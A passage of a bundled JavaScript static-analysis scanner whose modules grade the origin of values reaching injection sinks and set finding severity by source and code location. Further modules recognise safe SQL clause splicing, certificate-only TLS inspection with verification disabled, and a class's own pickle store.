            return { origin: 'unknown', because: 'a file read the rules cannot follow' };
        const where = this.grade(path, depth + 1);
        if (where.origin === 'constant' || where.origin === 'local' || this.pinned(path, depth))
            return { origin: 'constant', because: `the content of ${(0,graded/* short */.h0)(path.text())}, a file the app ships` };
        return where;
    }
    /** Whether a built path starts in a constant directory and ends in a literal file extension. */
    pinned(path, depth) {
        if ((0,flow_syntax/* kindOf */.I)(path) === 'identifier') {
            const defined = this.scope.onlyDefinition(path);
            return defined !== undefined && this.pinned(defined, depth + 1);
        }
        const parts = this.pathParts(path);
        const [first, last] = [parts[0], parts.at(-1)];
        if (!first || !last || parts.length < 2)
            return false;
        const start = (0,flow_syntax/* kindOf */.I)(first) === 'template_substitution' ? (0,flow_syntax/* named */.KT)(first)[0] : first;
        if (!start || (this.syntax.literals.includes((0,flow_syntax/* kindOf */.I)(start)) && !start.text().includes('/')))
            return false;
        if (graded/* RANK */.Vz[this.grade(start, depth + 1).origin] > graded/* RANK */.Vz.local)
            return false;
        const literal = this.syntax.literals.includes((0,flow_syntax/* kindOf */.I)(last)) || (0,flow_syntax/* kindOf */.I)(last) === 'string_fragment';
        return literal && /\.\w+['"`]?$/.test(last.text());
    }
    /** The parts a path is built of: a template's pieces, the operands of `+`, else the path itself. */
    pathParts(path) {
        const kind = (0,flow_syntax/* kindOf */.I)(path);
        if (kind === 'template_string')
            return (0,flow_syntax/* named */.KT)(path);
        if (kind === 'parenthesized_expression')
            return (0,flow_syntax/* named */.KT)(path).flatMap((p) => this.pathParts(p));
        const [left, right] = [path.field('left'), path.field('right')];
        if (this.syntax.binaries.includes(kind) && path.field('operator')?.text() === '+' && left && right)
            return [...this.pathParts(left), ...this.pathParts(right)];
        return [path];
    }
    /**
     * A Go `key: value` element: a map's key is a value (a range over the map yields it), a struct's
     * key is a field's name, which holds nothing. A bare name as the key of a literal not typed
     * `map[\u2026]` may still be a map's (a named map type, `Tables{name: true}`): it counts when it names
     * input, and a field's name, which names nothing the function binds, does not.
     */
    keyedElement(node, depth) {
        const [key, value] = (0,flow_syntax/* named */.KT)(node);
        const literal = node.ancestors().find((a) => (0,flow_syntax/* kindOf */.I)(a) === 'composite_literal');
        const type = literal?.field('type')?.text() ?? '';
        const grades = value ? [this.grade(value, depth)] : [];
        if (key !== undefined) {
            const keyGrade = this.grade(key, depth);
            const fieldName = /^\w+$/.test(key.text()) && !type.includes('map[');
            if (!fieldName || keyGrade.origin === 'input')
                grades.push(keyGrade);
        }
        return (0,graded/* strongest */.yX)(grades, this.language);
    }
    /**
     * A literal is constant unless it splices values in; Rust's format strings name them inline. Its
     * holes are the tree's own nesting, which ends: they spend no depth (Gladys's dated backup path).
     */
    literal(node, depth) {
        const holes = node
            .children()
            .filter((c) => this.syntax.interpolations.includes((0,flow_syntax/* kindOf */.I)(c)))
            .flatMap(flow_syntax/* named */.KT);
        return this.gradeAll(holes, depth);
    }
    /**
     * A Rust macro's arguments are unparsed tokens: split them at top-level commas; a lone identifier
     * or literal is graded as such, anything longer by its text (a source such as `env::var` is input).
     */
    tokenTree(node, depth) {
        const groups = [[]];
        for (const child of node.children().slice(1, -1)) {
            if (child.text() === ',')
                groups.push([]);
            else
                groups.at(-1).push(child);
        }
        const anywhere = new RegExp(this.syntax.tainted.source.replace(/^\^/, ''));
        return (0,graded/* strongest */.yX)(groups
            .filter((g) => g.length > 0)
            .map((g) => {
            if (g.length === 1)
                return this.grade(g[0], depth + 1);
            const text = g.map((t) => t.text()).join('');
            if (anywhere.test(text))
                return { origin: 'input', because: `${(0,graded/* short */.h0)(text)}, program input`, via: 'source', source: text };
            return { origin: 'unknown', because: `${(0,graded/* short */.h0)(text)}, of an origin the rules cannot follow` };
        }), this.language);
    }
    /** The parts of a pass-through call; a Rust format string's `{name}` fields are parts too. */
    parts(call, args, depth) {
        const grades = args.map((a) => this.grade(a, depth + 1));
        const format = (0,flow_syntax/* kindOf */.I)(call) === 'macro_invocation' ? (0,flow_syntax/* named */.KT)(args[0])[0] : undefined;
        if (format && (0,flow_syntax/* kindOf */.I)(format) === 'string_literal') {
            for (const [, name] of format.text().matchAll(/\{([A-Za-z_][A-Za-z0-9_]*)(?::[^}]*)?\}/g))
                grades.push(resolveName(this, name, call, depth));
        }
        return (0,graded/* strongest */.yX)(grades, this.language);
    }
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/languages.js
var languages = __webpack_require__(21913);
// EXTERNAL MODULE: ./.tmp/bundle-src/core/code-paths.js
var code_paths = __webpack_require__(12535);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/sql-clause.js
// A literal that ends where a whole clause or predicate starts: `\u2026 WHERE `, `\u2026 AND `, `\u2026 ORDER BY `.
const CLAUSE_END = /\b(?:where|and|or|having|order\s+by|group\s+by|set)\s*["`]$/i;
// A literal right after a splice that opens with a quote: the splice sat inside a quoted SQL value.
const QUOTE_AFTER = /^["`]\s*'/;
/** The operands of a chain of `+`, left to right. */
function operands(node) {
    if (node.kind() !== 'binary_expression' || node.field('operator')?.text() !== '+')
        return [node];
    const left = node.field('left');
    const right = node.field('right');
    return left && right ? [...operands(left), ...operands(right)] : [node];
}
// A template with substitutions (`${x}`) splices too: it is not a literal here.
const isLiteral = (node) => {
    const kind = String(node.kind());
    return kind.includes('string') && !(kind === 'template_string' && node.text().includes('${'));
};
/**
 * Whether `sql`, an argument of a database call, is literal SQL with every spliced part placed right
 * after a clause keyword (and not inside quotes), and the call passes bound arguments after it.
 */
function isCallerClause(sql) {
    try {
        return callerClause(sql);
    }
    catch {
        // A grammar shape this does not know keeps the finding: never drop one on an error.
        return false;
    }
}
function callerClause(sql) {
    if (!sql.nextAll().some((n) => n.isNamed()))
        return false;
    const parts = operands(sql);
    if (parts.length < 2 || !parts.some(isLiteral))
        return false;
    return parts.every((part, i) => {
        if (isLiteral(part))
            return true;
        const before = parts[i - 1];
        const after = parts[i + 1];
        return (before !== undefined &&
            isLiteral(before) &&
            CLAUSE_END.test(before.text()) &&
            (after === undefined || !QUOTE_AFTER.test(after.text())));
    });
}

// EXTERNAL MODULE: ./.tmp/bundle-src/core/types.js + 1 modules
var types = __webpack_require__(13281);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/reach-policy.js
/**
 * One severity-by-reachability policy for every injection-class rule with `metadata.flow` (command,
 * code, SQL, NoSQL, path, SSRF, regex, redirect, deserialisation, template sinks): issue 45 point 5.
 * Two tables decide a finding's grade, the same for every rule. SOURCES: what flows into the sink
 * bounds the grade (high and critical only for untrusted input). PLACES: where the code runs bounds it
 * further (tests, scripts, build files, CLIs, migrations serve no request). The finding gets the
 * mildest of the rule's severity and both bounds, and its body says which one lowered it.
 *
 * What counts as untrusted follows the default threat model of CodeQL (`remote` sources: a request;
 * its `local` model \u2014 argv, environment, stdin, files \u2014 is off by default, see
 * https://codeql.github.com/docs/codeql-cli/threat-models/) and Semgrep's taint mode (only declared
 * sources taint). The operator's own argv and environment are at most medium here rather than silent,
 * because a server's environment can still hold a value another system wrote.
 */



/** What flows in \u2192 the highest grade it earns, and the reason the body gives when that lowered it. */
const SOURCES = {
    constant: { ceiling: null, why: '' },
    // What the program produced itself (grade-flow.ts `closed`): its object's state and configuration,
    // names and dates it generated, calls on its own constants; no parameter, input or network read.
    // CodeQL's command-injection queries need a remote (or, indirect, an argv/env) source: none is here.
    'own-state': { ceiling: null, why: '' },
    'own-path': { ceiling: 'low', why: ', where the program itself lives, not a value anyone sends' },
    untraced: {
        ceiling: 'medium',
        why: '; the rules cannot trace it to a request, so nothing shows an attacker choosing it',
    },
    operator: {
        ceiling: 'medium',
        why: ', which its operator sets (the environment, argv or stdin), not a value an attacker sends',
    },
    'unserved-argument': {
        ceiling: 'medium',
        why: '; no request is read in this file and it declares no request handler, so nothing here shows an attacker reaching it',
    },
    // An exported entry's argument whose every call in the head was read and passes no input
    // (settled-callers.ts): what the app hands itself, like an untraced value. The body names the callers.
    'settled-argument': {
        ceiling: 'medium',
        why: "; none of them passes a request's value, argv or the environment",
    },
    // An exported entry's callers are anyone, including a route in another file: a request's value
    // crosses modules through exactly such functions (a DAO's, a service's public method), which a
    // per-file grader cannot follow the way CodeQL's interprocedural `remote` flow does.
    'exported-argument': { ceiling: 'critical', why: '' },
    'served-argument': { ceiling: 'critical', why: '' },
    request: { ceiling: 'critical', why: '' },
};
// Read by the code itself, not handed over by a caller: what a test or a script is reported for.
const readHere = (source) => source === 'request' || source === 'operator';
/**
 * Where the code runs \u2192 the mildest grade a finding there gets, which sources are reported there at
 * all, and the reason the body gives. Everything not listed is the app's code: the source decides.
 */
const PLACES = {
    // A build's environment and arguments belong to whoever runs the build: no attacker, no injection.
    'build-script': { ceiling: null, keeps: () => false, why: '' },
    test: {
        ceiling: 'low',
        keeps: readHere,
        why: ' (in a test: it serves no request, so only argv, the environment, stdin or a request read in it is reported, at most low)',
    },
    'maintainer-script': {
        ceiling: 'low',
        keeps: readHere,
        why: " (in a maintainer's script: its arguments and environment are the maintainer's own)",
    },
    cli: {
        ceiling: 'low',
        keeps: (source) => source !== 'constant' && source !== 'own-path',
        why: " (in a command-line program that serves no request: its argv, flags, environment, config and own paths are its operator's input, not an attacker's)",
    },
    // What a migration splices that traces to no input is the app's own schema and settings, and an
    // internal helper's argument what the migrations themselves pass (navidrome's `addColumn` helper,
    // its configured music folder, fresh5): no finding. A value read from a request, argv or the
    // environment, or an exported function's argument (a Knex `up(knex, table)`), stays, at most low.
    migration: {
        ceiling: 'low',
        keeps: (source) => !['constant', 'own-path', 'untraced', 'unserved-argument'].includes(source),
        why: " (in a migration, run once by the operator on the app's own schema)",
    },
    app: { ceiling: 'critical', keeps: (source) => source !== 'constant', why: '' },
};
// SEVERITIES runs from critical to low: the larger index is the milder severity.
const rank = (s) => types/* SEVERITIES */.oC.indexOf(s);
/** The milder of two severities. */
const milder = (a, b) => (rank(a) > rank(b) ? a : b);
/**
 * Which source a graded value is: a request read outranks the rest, the operator's argv or
 * environment is its own kind, and a function's argument counts as untrusted in a file that serves
 * requests or when the function is an exported entry.
 */
function sourceOf(graded, file, language) {
    if (graded.origin === 'constant')
        return 'constant';
    if (graded.origin === 'local')
        return 'own-path';
    if (graded.origin === 'unknown')
        return graded.closed ? 'own-state' : 'untraced';
    if (graded.via === 'argument') {
        if ((0,entry_points/* servesRequests */.Hu)(file, language))
            return 'served-argument';
        if (!graded.exported)
            return 'unserved-argument';
        return graded.callers === undefined ? 'exported-argument' : 'settled-argument';
    }
    return (0,cli_program/* isOperatorSource */.GG)(graded.source ?? '', language) ? 'operator' : 'request';
}
/**
 * The grade of a finding of a rule graded `ruleSeverity` whose value comes from `source` in code
 * running at `place`: null when it is no finding, else the severity and the reason to append.
 */
function gradeByReach(ruleSeverity, source, place) {
    const where = PLACES[place];
    const from = SOURCES[source];
    if (!where.keeps(source) || !where.ceiling || !from.ceiling)
        return null;
    const bySource = milder(ruleSeverity, from.ceiling);
    const severity = milder(bySource, where.ceiling);
    // The place's reason wins when it lowered the grade further; else the source's, when it did.
    if (severity !== bySource)
        return { severity, why: where.why };
    if (bySource !== ruleSeverity)
        return { severity, why: from.why + where.why };
    return { severity, why: where.why };
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/stored-setting.js

// A segment naming a configuration object: `config`, `settings`, `themeSettings`, `appConfig`, `options`.
const CONFIG_SEGMENT = /^(?:\w*(?:[cC]onfig|[sS]ettings|[oO]ptions|[pP]references)|conf|prefs)$/;
// A segment naming what a request, message or event carries: never the app's own setting.
const REQUEST_SEGMENT = /^(?:req|request|res|response|body|query|params|headers|cookies|ctx|event|message|payload|input|location|search|hash)$/i;
// A constant's name: `DefaultAPIEval`, `DEFAULT_EVAL` (a module's own default).
const CONSTANT_NAME = /^(?:[A-Z][A-Z0-9_]*|Default\w*)$/;
const stored_setting_LITERALS = new Set(['string', 'number', 'true', 'false', 'null', 'undefined']);
const stored_setting_MAX_DEPTH = 4;
/**
 * The stored setting `value` is built from (the spliced parts, e.g. "`pingEval`"), when every part
 * is a stored setting or a literal or constant default and one is a setting; undefined otherwise.
 */
function storedSettingIn(value) {
    const parts = spliced(value);
    const kinds = parts.map((p) => partKind(p, 0));
    if (kinds.some((k) => k === 'other') || !kinds.includes('setting'))
        return undefined;
    return parts
        .filter((_, i) => kinds[i] === 'setting')
        .map((p) => `\`${p.text().replace(/\s+/g, ' ').slice(0, 60)}\``)
        .join(', ');
}
/** The parts a body is built of: a template's substitutions, else the body itself. */
function spliced(value) {
    if ((0,flow_syntax/* kindOf */.I)(value) !== 'template_string')
        return [value];
    return value
        .children()
        .filter((c) => (0,flow_syntax/* kindOf */.I)(c) === 'template_substitution')
        .flatMap((c) => (0,flow_syntax/* named */.KT)(c));
}
function partKind(node, depth) {
    if (depth > stored_setting_MAX_DEPTH)
        return 'other';
    const kind = (0,flow_syntax/* kindOf */.I)(node);
    if (stored_setting_LITERALS.has(kind) || (kind === 'template_string' && spliced(node).length === 0))
        return 'default';
    if (kind === 'parenthesized_expression' || kind === 'unary_expression' || kind === 'non_null_expression')
        return combine((0,flow_syntax/* named */.KT)(node).map((n) => partKind(n, depth + 1)));
    if (kind === 'ternary_expression') {
        const branches = [node.field('consequence'), node.field('alternative')];
        return combine(branches.map((b) => (b ? partKind(b, depth + 1) : 'other')));
    }
    if (kind === 'binary_expression') {
        if (!/^(\|\||\?\?)$/.test(node.field('operator')?.text() ?? ''))
            return 'other';
        return combine([node.field('left'), node.field('right')].map((b) => (b ? partKind(b, depth + 1) : 'other')));
    }
    if (kind === 'member_expression')
        return settingPath(node) ? 'setting' : 'other';
    if (kind === 'identifier')
        return CONSTANT_NAME.test(node.text()) ? 'default' : local(node, depth);
    return 'other';
}
// Every branch must be a setting or a default; a setting among them makes the whole a setting.
function combine(parts) {
    if (parts.some((p) => p === 'other'))
        return 'other';
    return parts.includes('setting') ? 'setting' : 'default';
}
/** A chain of plain fields (no call, no index) rooted at `this` or passing a configuration object. */
function settingPath(node) {
    const segments = [];
    let at = node;
    while (at && (0,flow_syntax/* kindOf */.I)(at) === 'member_expression') {
        segments.unshift(at.field('property')?.text() ?? '');
        at = at.field('object');
    }
    if (!at || !['this', 'identifier'].includes((0,flow_syntax/* kindOf */.I)(at)))
        return false;
    segments.unshift(at.text());
    if (segments.some((s) => REQUEST_SEGMENT.test(s)))
        return false;
    if ((0,flow_syntax/* kindOf */.I)(at) !== 'this' && !segments.some((s) => CONFIG_SEGMENT.test(s)))
        return false;
    return !writtenInFile(node, segments);
}
/**
 * Whether the file itself writes the setting (or an object on its path) with anything but a name:
 * `this.monitor = monitor` hands in what the object was built with, while `this.code = atob(\u2026)` or
 * a literal puts the change's own text there (a payload in a minified file reads like a setting).
 */
function writtenInFile(node, segments) {
    const prefixes = new Set(segments.slice(1).map((_, i) => segments.slice(0, i + 2).join('.')));
    const root = node.getRoot().root();
    return root
        .findAll({ rule: { kind: 'assignment_expression', has: { field: 'left', kind: 'member_expression' } } })
        .some((a) => {
        const left = a.field('left')?.text().replace(/\s+/g, '');
        return left !== undefined && prefixes.has(left) && (0,flow_syntax/* kindOf */.I)(a.field('right') ?? a) !== 'identifier';
    });
}
/** A local name: what its declarations in the enclosing function give it (each one must qualify). */
function local(name, depth) {
    const fn = name.ancestors().find((a) => flow_syntax/* FLOW_SYNTAX */.du.javascript.functions.includes((0,flow_syntax/* kindOf */.I)(a)));
    if (!fn)
        return 'other';
    const exactly = `^${name.text().replace(/\$/g, '\\$')}$`;
    // Assigned again anywhere in the function: the rules do not follow which value reaches the body.
    if (fn.find({ rule: { kind: 'assignment_expression', has: { field: 'left', regex: exactly } } }))
        return 'other';
    const values = fn
        .findAll({ rule: { kind: 'variable_declarator', has: { field: 'name', regex: exactly } } })
        .map((d) => d.field('value'));
    if (values.length === 0 || values.some((v) => !v))
        return 'other';
    return combine(values.map((v) => partKind(v, depth + 1)));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/tls-inspector.js

// What an inspector reads or calls on the socket: the certificate, the handshake's outcome, its
// lifecycle. https://nodejs.org/api/tls.html#class-tlstlssocket
const tls_inspector_READS = /^(getPeerCertificate|getPeerX509Certificate|getCertificate|getProtocol|getCipher|getEphemeralKeyInfo|getSharedSigalgs|authorized|authorizationError|alpnProtocol|servername|remoteAddress|remotePort|encrypted|on|once|end|destroy|setTimeout)$/;
// Events that carry no data from the peer.
const EVENTS = /^['"`](secureConnect|connect|error|close|end|timeout|ocspResponse)['"`]$/;
/**
 * Whether the match (`rejectUnauthorized: false`, `InsecureSkipVerify: true`) configures a connection
 * that only reads the certificate.
 */
function inspectsCertificateOnly(node, language) {
    if (language === 'go')
        return goInspector(node);
    if (!['javascript', 'typescript', 'tsx'].includes(language) || kind(node) !== 'pair')
        return false;
    const object = node.parent();
    const args = object?.parent();
    const call = args?.parent();
    if (kind(object) !== 'object' || kind(args) !== 'arguments' || !call || kind(call) !== 'call_expression')
        return false;
    if (call.field('function')?.text() !== 'tls.connect')
        return false;
    const declarator = call.parent();
    const name = declarator?.field('name');
    if (!declarator || !name || kind(declarator) !== 'variable_declarator' || kind(name) !== 'identifier')
        return false;
    const functions = flow_syntax/* FLOW_SYNTAX */.du[language].functions;
    // The connection's `function` callbacks see the socket as `this` (an arrow function's is the outer one).
    for (const self of args.findAll({ rule: { kind: 'this' } })) {
        const binder = self.ancestors().find((a) => functions.includes(kind(a)));
        if (binder && kind(binder) !== 'arrow_function' && binder.range().start.index > call.range().start.index)
            return false;
    }
    const scope = declarator.ancestors().find((a) => functions.includes(kind(a)));
    if (!scope)
        return false;
    const uses = scope
        .findAll({
        rule: { any: [{ kind: 'identifier' }, ...ALIASES], regex: `^${name.text().replace(/\$/g, '\\$')}$` },
    })
        .filter((id) => !same(id, name));
    let readsCertificate = false;
    for (const id of uses) {
        const member = id.parent();
        if (!member || kind(id) !== 'identifier' || kind(member) !== 'member_expression')
            return false;
        if (!same(member.field('object'), id))
            return false;
        const property = member.field('property')?.text() ?? '';
        if (!tls_inspector_READS.test(property))
            return false;
        if (/^getPeer/.test(property))
            readsCertificate = true;
        if (!/^(on|once|end)$/.test(property))
            continue;
        const use = member.parent();
        if (!use || kind(use) !== 'call_expression')
            return false;
        const passed = (use.field('arguments')?.children() ?? []).filter((c) => c.isNamed() && !kind(c).includes('comment'));
        // `end(data)` writes before closing; a `data` listener reads what the unverified peer sends.
        if (property === 'end' ? passed.length > 0 : !EVENTS.test(passed[0]?.text() ?? ''))
            return false;
        if (property !== 'end' && !harmlessListener(passed, functions))
            return false;
    }
    return readsCertificate;
}
// What a Go inspector calls on its `*tls.Conn`. https://pkg.go.dev/crypto/tls#Conn
const GO_READS = /^(Handshake|HandshakeContext|ConnectionState|Close|RemoteAddr|LocalAddr|SetDeadline|VerifyHostname|OCSPResponse)$/;
// I/O in the function: data sent or read over some connection (go-tls-insecure's former YAML test).
const GO_IO = /(\.(Write|Read|ReadFrom|WriteTo|Do|Get|Post|Send)\w*|^(io|bufio|http)\.\w+|^fmt\.Fprint\w*)$/;
function goInspector(node) {
    if (kind(node) !== 'keyed_element')
        return false;
    const call = node.ancestors().find((a) => kind(a) === 'call_expression');
    if (!call || !/^tls\.(Client|Dial|DialWithDialer)$/.test(call.field('function')?.text() ?? ''))
        return false;
    // The config is written inline in the call: `&tls.Config{\u2026}` is one of its arguments.
    const argument = node.ancestors().find((a) => kind(a.parent()) === 'argument_list');
    if (!argument || !same(argument.parent()?.parent(), call))
        return false;
    const values = call.parent();
    const declaration = values?.parent();
    if (!values || !declaration || kind(values) !== 'expression_list')
        return false;
    if (!['short_var_declaration', 'assignment_statement'].includes(kind(declaration)))
        return false;
    if (!same(declaration.field('right'), values))
        return false;
    const name = declaration
        .field('left')
        ?.children()
        .find((c) => kind(c) === 'identifier');
    const scope = declaration
        .ancestors()
        .find((a) => ['function_declaration', 'method_declaration', 'func_literal'].includes(kind(a)));
    if (!name || !scope)
        return false;
    const calls = scope.findAll({ rule: { kind: 'call_expression' } });
    if (calls.some((c) => GO_IO.test(c.field('function')?.text() ?? '')))
        return false;
    if (!scope.find({ rule: { kind: 'field_identifier', regex: '^PeerCertificates$' } }))
        return false;
    const used = new Set();
    for (const id of scope.findAll({ rule: { kind: 'identifier', regex: `^${name.text()}$` } })) {
        if (same(id, name))
            continue;
        const selector = id.parent();
        if (!selector || kind(selector) !== 'selector_expression' || !same(selector.field('operand'), id))
            return false;
        const field = selector.field('field')?.text() ?? '';
        if (!GO_READS.test(field) || kind(selector.parent()) !== 'call_expression')
            return false;
        used.add(field);
    }
    return used.has('ConnectionState') && used.has('Close');
}
/**
 * Whether an `on(event, listener)` call's listener cannot send over the socket. A `function` listener
 * sees the socket as `this`, as the connection's own callback does; a listener defined elsewhere
 * (`on('secureConnect', onConnect)`) cannot be read here, except on `error` and `close`, after which
 * the socket is destroyed and nothing more can be sent.
 */
function harmlessListener(passed, functions) {
    const [event, listener] = passed;
    if (!listener)
        return false;
    if (functions.includes(kind(listener)))
        return !selfBound(listener, functions);
    return kind(listener) === 'identifier' && /^['"`](error|close)['"`]$/.test(event?.text() ?? '');
}
/** Whether `node` is a non-arrow function that uses `this` (bound by whoever calls it: an emitter, its own). */
function selfBound(node, functions) {
    const k = kind(node);
    return functions.includes(k) && k !== 'arrow_function' && node.find({ rule: { kind: 'this' } }) !== null;
}
// The socket's name where it is not an identifier: `{ socket }` in an object or a destructuring.
const ALIASES = [
    { kind: 'shorthand_property_identifier' },
    { kind: 'shorthand_property_identifier_pattern' },
];
const kind = (node) => (node ? String(node.kind()) : '');
function same(a, b) {
    return (!!a && a.range().start.index === b.range().start.index && a.range().end.index === b.range().end.index);
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/tls-peer-checked.js

// Go calls these on every handshake, after (or instead of) its own verification.
const VERIFIERS = /^(VerifyPeerCertificate|VerifyConnection)$/;
// Ask the peer for a certificate and accept one no CA signed (https://pkg.go.dev/crypto/tls#ClientAuthType).
const UNVERIFIED_CLIENT_CERT = /^(tls\.)?(RequestClientCert|RequireAnyClientCert)$/;
const UNIX_NETWORK = /^"unix(packet|gram)?"$/;
/** Why the code still checks the peer of an `InsecureSkipVerify: true`, for the finding's body, or undefined. */
function goPeerChecked(node) {
    const fields = configFields(node);
    const verifier = [...fields].find(([key, value]) => VERIFIERS.test(key) && verifies(value))?.[0];
    if (verifier)
        return `the same \`tls.Config\` verifies the certificate itself (\`${verifier}\`), which Go calls on every handshake; check that it verifies the chain and the name`;
    const clientAuth = fields.get('ClientAuth')?.text() ?? '';
    if (fields.has('Certificates') && UNVERIFIED_CLIENT_CERT.test(clientAuth))
        return `the same \`tls.Config\` presents its own certificate and asks every peer for one (\`${clientAuth}\`) without a CA: peers with self-signed certificates known by their fingerprint; check that the code compares the peer's certificate with the expected one after the handshake`;
    if (inUnixBranch(node))
        return 'the connection is made in the branch for a unix domain socket, which has no network path: its file permissions decide who connects';
    return undefined;
}
/** The keyed fields of the composite literal holding `node` (a `keyed_element`), by key. */
function configFields(node) {
    const fields = new Map();
    const literal = node.parent();
    if (!literal || (0,syntax_nodes/* kindOf */.I)(literal) !== 'literal_value')
        return fields;
    for (const element of (0,syntax_nodes/* named */.KT)(literal)) {
        if ((0,syntax_nodes/* kindOf */.I)(element) !== 'keyed_element')
            continue;
        // Each side is a `literal_element` around the expression.
        const [key, value] = (0,syntax_nodes/* named */.KT)(element).map((side) => (0,syntax_nodes/* named */.KT)(side)[0] ?? side);
        if (key && value)
            fields.set(key.text(), value);
    }
    return fields;
}
/**
 * Whether a verifier field's value can verify: a named function, or a function literal that does
 * more than `return nil`. `nil` or an empty verifier turns nothing back on.
 */
function verifies(value) {
    const text = value.text().trim();
    if (text === 'nil')
        return false;
    if ((0,syntax_nodes/* kindOf */.I)(value) !== 'func_literal')
        return /^[\w.]+$/.test(text);
    const body = (value.field('body')?.text() ?? '').replace(/\s+/g, ' ');
    return !/^\{ ?(return nil ?)?\}$/.test(body);
}
/** Whether the case before `branch` ends in `fallthrough`, so other networks run its body too. */
function fallenInto(branch) {
    const cases = (0,syntax_nodes/* named */.KT)(branch.parent());
    const before = cases[cases.findIndex((c) => c.id() === branch.id()) - 1];
    // The case's statements, bare or (newer grammars) inside a statement_list.
    const body = (0,syntax_nodes/* named */.KT)(before).at(-1);
    const last = body && (0,syntax_nodes/* kindOf */.I)(body) === 'statement_list' ? (0,syntax_nodes/* named */.KT)(body).at(-1) : body;
    return last !== undefined && (0,syntax_nodes/* kindOf */.I)(last) === 'fallthrough_statement';
}
/**
 * Whether `node` sits in a branch taken only for a unix domain socket: a `case` listing only unix
 * networks, or the block of an `if` comparing with `==` to one. A name counts when the file declares
 * it a constant holding such a string (`const unix = "unix"`).
 */
function inUnixBranch(node) {
    const root = node.getRoot().root();
    const isUnix = (value) => {
        if (!value)
            return false;
        if (UNIX_NETWORK.test(value.text()))
            return true;
        if ((0,syntax_nodes/* kindOf */.I)(value) !== 'identifier')
            return false;
        return root
            .findAll({ rule: { kind: 'const_spec' } })
            .some((spec) => spec.field('name')?.text() === value.text() && UNIX_NETWORK.test(spec.field('value')?.text() ?? ''));
    };
    for (const branch of node.ancestors()) {
        const kind = (0,syntax_nodes/* kindOf */.I)(branch);
        if (kind === 'function_declaration' || kind === 'method_declaration' || kind === 'func_literal')
            return false;
        if (kind === 'expression_case') {
            const values = (0,syntax_nodes/* named */.KT)(branch.field('value'));
            if (values.length > 0 && values.every(isUnix) && !fallenInto(branch))
                return true;
        }
        const statement = branch.parent();
        if (kind !== 'block' || !statement || (0,syntax_nodes/* kindOf */.I)(statement) !== 'if_statement')
            continue;
        const condition = statement.field('condition');
        if (statement.field('consequence')?.id() !== branch.id() || !condition)
            continue;
        if ((0,syntax_nodes/* kindOf */.I)(condition) !== 'binary_expression' || condition.field('operator')?.text() !== '==')
            continue;
        if (isUnix(condition.field('left')) || isUnix(condition.field('right')))
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/pickle-store.js

const DUMPS = /^(pickle|cPickle|dill)\.dumps$/;
// Reads and removals of the dict that store nothing: `self._x.get(k)`, `self._x.pop(k, None)`, \u2026
const READ_METHODS = /^(get|pop|items|keys|values|clear|copy|__contains__|__len__)$/;
/** Whether `data`, the bytes `pickle.loads` reads, come from the class's own store of pickled values. */
function unpicklesOwnStore(data) {
    const read = storeRead(data);
    if (!read)
        return false;
    const cls = data.ancestors().find((a) => (0,flow_syntax/* kindOf */.I)(a) === 'class_definition');
    if (!cls)
        return false;
    const file = data.getRoot().root().text();
    // `cache._x[...] = \u2026` elsewhere in the file writes past the class.
    if (new RegExp(String.raw `(?<!\bself)\.${read.attr}\b`).test(file))
        return false;
    const uses = cls
        .findAll({ rule: { kind: 'attribute', pattern: `self.${read.attr}` } })
        .filter((u) => u.field('object')?.text() === 'self');
    return uses.length > 0 && uses.every((u) => harmlessUse(u, read.index));
}
/** The store attribute and the position read (null for the whole value), if `data` reads one. */
function storeRead(data) {
    const direct = readOf(data);
    if (direct)
        return { attr: direct, index: null };
    if ((0,flow_syntax/* kindOf */.I)(data) !== 'identifier')
        return undefined;
    const fn = data.ancestors().find((a) => (0,flow_syntax/* kindOf */.I)(a) === 'function_definition');
    const defs = (fn?.findAll({ rule: { kind: 'assignment' } }) ?? []).filter((a) => (0,flow_syntax/* named */.KT)(a.field('left'))
        .concat(a.field('left') ?? [])
        .some((n) => n.text() === data.text()));
    const [def] = defs;
    const left = def?.field('left');
    const attr = readOf(def?.field('right') ?? null);
    if (defs.length !== 1 || !left || !attr)
        return undefined;
    if ((0,flow_syntax/* kindOf */.I)(left) === 'identifier')
        return { attr, index: null };
    const index = (0,flow_syntax/* named */.KT)(left).findIndex((n) => n.text() === data.text());
    return ['pattern_list', 'tuple_pattern'].includes((0,flow_syntax/* kindOf */.I)(left)) && index >= 0 ? { attr, index } : undefined;
}
/** `self._x[k]` or `self._x.get(k, <literals>)`: the private attribute read, else undefined. */
function readOf(node) {
    if (!node)
        return undefined;
    const subscript = /^self\.(_\w+)\[/.exec(node.text());
    if ((0,flow_syntax/* kindOf */.I)(node) === 'subscript' && subscript)
        return subscript[1];
    const get = /^self\.(_\w+)\.get$/.exec(node.field('function')?.text() ?? '');
    if ((0,flow_syntax/* kindOf */.I)(node) !== 'call' || !get)
        return undefined;
    const fallback = (0,flow_syntax/* named */.KT)(node.field('arguments'))[1];
    return fallback && fallback.find({ rule: { kind: 'identifier' } }) ? undefined : get[1];
}
/** Whether one `self._x` of the class stores nothing but pickled values at `index`, or only reads. */
function harmlessUse(use, index) {
    const parent = use.parent();
    if (!parent)
        return false;
    const kind = (0,flow_syntax/* kindOf */.I)(parent);
    if (kind === 'assignment' && parent.field('left')?.id() === use.id())
        return /^(\{\s*\}|dict\(\s*\))$/.test(parent.field('right')?.text() ?? '');
    if (kind === 'subscript') {
        if (parent.field('value')?.id() !== use.id())
            return false;
        const assignment = parent.parent();
        if (!assignment || (0,flow_syntax/* kindOf */.I)(assignment) !== 'assignment' || assignment.field('left')?.id() !== parent.id())
            return (0,flow_syntax/* kindOf */.I)(assignment ?? parent) !== 'augmented_assignment';
        return pickledAt(assignment.field('right'), index);
    }
    if (kind === 'attribute') {
        const method = parent.field('attribute')?.text() ?? '';
        if (READ_METHODS.test(method))
            return true;
        const call = parent.parent();
        const kept = (0,flow_syntax/* named */.KT)(call?.field('arguments'))[1]?.text() ?? '';
        return method === 'setdefault' && kept.startsWith(`${use.text()}[`);
    }
    // `key in self._x`, `len(self._x)`.
    if (kind === 'comparison_operator')
        return true;
    return kind === 'argument_list' && /^len\s*\(/.test(parent.parent()?.text() ?? '');
}
function pickledAt(value, index) {
    if (!value)
        return false;
